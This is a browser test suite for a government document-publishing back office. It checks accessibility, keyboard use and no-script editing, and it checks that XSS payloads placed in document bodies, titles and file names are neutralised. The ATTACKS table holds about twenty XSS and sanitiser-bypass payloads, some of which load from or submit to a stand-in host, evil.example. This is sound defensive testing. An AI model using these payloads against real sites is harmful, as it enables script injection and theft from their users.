// The office's pages of documents in a browser: accessible, within the screen, the editor in its place, use by keyboard
// and without scripts; and HTML that attacks, put into a real document, that does nothing.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { axe, launch, overflows } from '../lib/browser.mjs';
import { signedIn } from '../lib/people.mjs';
import { root, sampleData, serve } from '../lib/server.mjs';

let data, server, browser, review, published;
const shots = process.env.GONGKAI_SHOTS ?? join(root, 'build-test/shots');
before(async () => {
  data = sampleData();
  server = await serve(data.data);
  browser = await launch();
  mkdirSync(shots, { recursive: true });
  const officer = await signedIn(server, data.people.zhuanyuan);
  const first = async (query) => (await officer.open(`/bo/doc?${query}`)).html.match(/<a class="quiet" href="(\/bo\/doc\/\d+)"/)[1];
  review = await first('zt=review');
  published = await first('zt=published');
});
after(async () => { await browser?.close(); await server?.stop(); data?.remove(); });

/** A context in which somebody is signed in. */
async function as(login, options = {}) {
  const visitor = await signedIn(server, data.people[login]);
  const context = await browser.newContext({ locale: 'zh-CN', timezoneId: 'Asia/Shanghai', ...options });
  await context.addCookies([...visitor.cookies].map(([name, value]) => ({ name, value, url: server.url })));
  return context;
}

const PAGES = {
  'bo-home': ['bianji', () => '/bo/'], 'bo-list': ['bianji', () => '/bo/doc'], 'bo-new': ['bianji', () => '/bo/doc/new'],
  'bo-review': ['lingdao', () => review], 'bo-published': ['zhuanyuan', () => published], 'bo-edit': ['bianji', () => `${published}?xg=1`],
  'bo-preview': ['baomi', () => `${published}/yl`], 'bo-versions': ['baomi', () => `${published}/bb`], 'bo-sheet': ['baomi', () => `${published}/sheet`],
  'bo-batch': ['lingdao', () => '/bo/doc/batch'], 'bo-columns': ['zhuanyuan', () => '/bo/col'], 'bo-column': ['zhuanyuan', () => '/bo/col/news'],
  'bo-reassess': ['zhuanyuan', () => '/bo/doc/reassess'], 'bo-clarify': ['zhuanyuan', () => '/bo/doc/cq'],
};
for (const width of [1280, 390]) {
  test(`office pages at ${width}: no accessibility violation, no sideways scroll, no console error`, async () => {
    for (const login of new Set(Object.values(PAGES).map(([who]) => who))) {
      const context = await as(login, { viewport: { width, height: 900 }, bypassCSP: true });
      const page = await context.newPage();
      const errors = [];
      page.on('console', (message) => { if (message.type() === 'error') errors.push(message.text()); });
      page.on('pageerror', (error) => errors.push(String(error)));
      for (const [name, [, path]] of Object.entries(PAGES).filter(([, [who]]) => who === login)) {
        const answer = await page.goto(server.url + path());
        assert.equal(answer.status(), 200, name);
        await page.screenshot({ path: join(shots, `${name}-${width}.png`), fullPage: true });
        assert.deepEqual(await axe(page), [], name);
        assert.equal(await overflows(page), false, name);
      }
      assert.deepEqual(errors, []);
      await context.close();
    }
  });
}

/* ---- writing ---- */

const fill = async (page, title) => {
  await page.getByLabel('标题', { exact: true }).fill(title);
  await page.getByLabel('栏目', { exact: true }).selectOption('news');
  await page.getByLabel('成文日期').fill(new Date(Date.now() + 8 * 3600e3).toISOString().slice(0, 10));
};

test('a document is written with the editor, saved and handed in by keyboard', async () => {
  const context = await as('bianji');
  const page = await context.newPage();
  const refused = [];
  page.on('console', (message) => { if (/Content Security Policy/.test(message.text())) refused.push(message.text()); });
  await page.goto(`${server.url}/bo/doc/new`);
  await fill(page, '键盘写成的一件');
  await page.locator('.ProseMirror').click();
  await page.keyboard.type('j k / 都是正文。');
  await page.keyboard.press('Control+s');
  await page.waitForURL(/\/bo\/doc\/\d+$/);
  assert.equal(await page.getByText('已保存。').isVisible(), true);
  assert.equal(await page.locator('.ProseMirror').innerText(), 'j k / 都是正文。');
  await page.locator('.ProseMirror').click();
  await page.keyboard.press('Control+Enter');
  await page.waitForURL(/\/bo\/doc\/\d+$/);
  await page.getByText('已保存并交初审。').waitFor();
  assert.deepEqual(refused, []);
  await context.close();
});

test('without scripts a document is written in the plain text area', async () => {
  const context = await as('bianji', { javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto(`${server.url}/bo/doc/new`);
  await fill(page, '没有脚本写成的一件');
  await page.getByLabel('正文（纯文本）').fill('第一段\n项目\t数量\n许可\t44');
  await page.getByRole('button', { name: '保存', exact: true }).click();
  assert.equal(await page.getByText('已保存。').isVisible(), true);
  assert.equal(await page.getByLabel('正文（纯文本）').inputValue(), '第一段\n项目\t数量\n许可\t44');
  await page.goto(`${page.url()}/yl`);
  assert.equal(await page.locator('.doc__body table td').count(), 2);
  await context.close();
});

test('the list by keyboard: J, K and Enter, / for searching, ? for the keys, which can be switched off', async () => {
  const context = await as('bianji');
  const page = await context.newPage();
  await page.goto(`${server.url}/bo/doc`);
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('k');
  assert.equal(await page.locator('tr.on').count(), 1);
  const title = await page.locator('tr.on th a').innerText();
  await page.keyboard.press('?');
  assert.equal(await page.getByRole('dialog', { name: '快捷键' }).isVisible(), true);
  await page.keyboard.press('Escape');
  await page.keyboard.press('/');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'gq');
  await page.locator('tr.on th a').focus();
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { level: 1, name: title }).waitFor();
  await page.goto(`${server.url}/bo/doc`);
  await page.keyboard.press('?');
  await page.getByLabel(/不用单键快捷键/).check();
  await page.getByRole('button', { name: '关闭' }).click();
  await page.evaluate(() => document.activeElement.blur());
  await page.keyboard.press('j');
  assert.equal(await page.locator('tr.on').count(), 0);
  await context.close();
});

/* ---- attacks ---- */

const ATTACKS = {
  script: '<script>hit()</script><script src="https://evil.example/x.js"></script>',
  handlers: '<img src="/nicht" onerror="hit()"><p onclick="hit()" onmouseover="hit()">x</p><body onload="hit()"><details open ontoggle="hit()"><summary>x</summary></details>',
  javascript: '<a href="javascript:hit()">x</a><iframe src="javascript:hit()"></iframe><form action="javascript:hit()"><button>x</button></form>',
  entities: '<a href="&#106;&#97;vascript&#58;hit()">x</a><a href=" java&#9;script:hit()">y</a><img src="&#x6A;avascript:hit()">',
  data: '<a href="data:text/html,<script>hit()</script>">x</a><object data="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=="></object><img src="data:image/svg+xml,<svg onload=hit()>">',
  svg: '<svg onload="hit()"><script>hit()</script><a xlink:href="javascript:hit()"><text>x</text></a><animate onbegin="hit()" attributeName="x"/></svg>',
  math: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></math>',
  template: '<template><img src="x" onerror="hit()"></template><template shadowrootmode="open"><img src="x" onerror="hit()"></template>',
  misnesting: '<b><p><i></b><table><tr><td><a href="/x"><table><a href="javascript:hit()">x<img src=x onerror=hit()></table>',
  style: '<p style="background:url(https://evil.example/a)">x</p><style>@import "https://evil.example/b";body{display:none}</style><link rel="stylesheet" href="https://evil.example/c">',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  form: '<form action="https://evil.example/" id="f"><input name="q" autofocus onfocus="hit()"></form><button form="f" formaction="javascript:hit()">x</button>',
  srcdoc: '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  embed: '<object type="text/html" data="https://evil.example/"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>',
  comment: 'x<!-- <img src=x onerror=hit()> --!><img src=x onerror=hit()><!-- offen',
  null: 'x<scr\u0000ipt>hit()</scr\u0000ipt><a href="java\u0000script:hit()">x</a><img src=x o\u0000nerror=hit()>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  plaintext: 'x<xmp><img src=x onerror=hit()></xmp><listing>&lt;img onerror=hit()&gt;</listing><plaintext><img src=x onerror=hit()>',
  breakout: '</textarea></div></form><img src=x onerror=hit()><script>hit()</script>"><img src=x onerror=hit()>{{raw x}}',
  pictures: '<img src="https://evil.example/p.png"><img src="//evil.example/q.png"><video poster="https://evil.example/r" src="https://evil.example/v.mp4" autoplay></video><table background="https://evil.example/t"><tr><td>x</td></tr></table>',
};

/** Opens a page and tells whether anything ran, was asked for elsewhere, popped up or left. */
async function watch(context, path) {
  const page = await context.newPage();
  const seen = [];
  await page.exposeFunction('hit', () => seen.push('script ran'));
  page.on('dialog', (dialog) => { seen.push(`dialog ${dialog.message()}`); dialog.dismiss(); });
  page.on('request', (request) => { if (!request.url().startsWith(server.url)) seen.push(`request ${request.url()}`); });
  page.on('pageerror', (error) => seen.push(`error ${error}`));
  await page.goto(server.url + path, { waitUntil: 'load' });
  await page.waitForTimeout(30);
  const dangerous = await page.locator('.doc__body, .ProseMirror').first().evaluate((body) => [...body.querySelectorAll('script,iframe,object,embed,svg,math,template,form,style,meta,base,link,noscript,input,button')].map((e) => e.outerHTML)
    .concat([...body.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/.test(a.name) || /^\s*(javascript|data):/i.test(a.value)).map((a) => `${a.name}=${a.value}`))));
  for (const link of await page.locator('.doc__body a, .ProseMirror a').all()) await link.dispatchEvent('click').catch(() => {});
  if (!page.url().startsWith(server.url)) seen.push(`went to ${page.url()}`);
  await page.close();
  return [...seen, ...dangerous];
}

test('attacks in the body of a document do nothing: in the editor, and in the preview of reviewers', async () => {
  const writer = await signedIn(server, data.people.bianji);
  const [editor, reviewer] = [await as('bianji'), await as('baomi')];
  for (const [name, html] of Object.entries(ATTACKS)) {
    const body = `<p>前</p>${html}<p>后</p>`;
    const fields = { title: `攻击 ${name}`, column_code: 'news', body_text: undefined };
    const answer = await writer.submit('/bo/doc/new', '/bo/doc/new', { ...fields, body_html: body, act: 'save' });
    if (name === 'null') { // null bytes come in neither by a form nor by a file; the sanitiser's own tests have them
      assert.equal(answer.status, 400);
      const file = await writer.submit('/bo/doc/new', '/bo/doc/new', { ...fields, body_text: '', act: 'import' }, { import: ['a.html', `<html><body>${body}</body></html>`] });
      assert.equal(file.status, 422);
      continue;
    }
    assert.equal(answer.status, 303, name);
    for (const [context, path] of [[editor, answer.location], [reviewer, `${answer.location}/yl`]]) {
      assert.deepEqual(await watch(context, path), [], `${name} at ${path}`);
    }
  }
  await editor.close();
  await reviewer.close();
});

test('attacks in titles, opinions and file names are shown as text', async () => {
  const evil = '"><img src=x onerror=hit()><script>hit()</script>';
  const writer = await signedIn(server, data.people.bianji);
  const answer = await writer.submit('/bo/doc/new', '/bo/doc/new', { title: evil, column_code: 'news', department: evil, summary: evil, keywords: evil, organs: evil, body_text: '正文', act: 'save' }, { files: ['<img src=x onerror=hit()>.csv', 'a,b\n1,2\n'] });
  assert.equal(answer.status, 303);
  const context = await as('bianji');
  for (const path of ['/bo/', '/bo/doc', answer.location, `${answer.location}/yl`, `${answer.location}/bb`, `${answer.location}/sheet`, `/bo/doc?q=${encodeURIComponent(evil)}`]) {
    const page = await context.newPage();
    const seen = [];
    await page.exposeFunction('hit', () => seen.push('script ran'));
    await page.goto(server.url + path);
    await page.waitForTimeout(60);
    assert.equal(await page.locator('main img[onerror], main script:not([src])').count(), 0, path);
    assert.deepEqual(seen, [], path);
    await page.close();
  }
  await context.close();
});
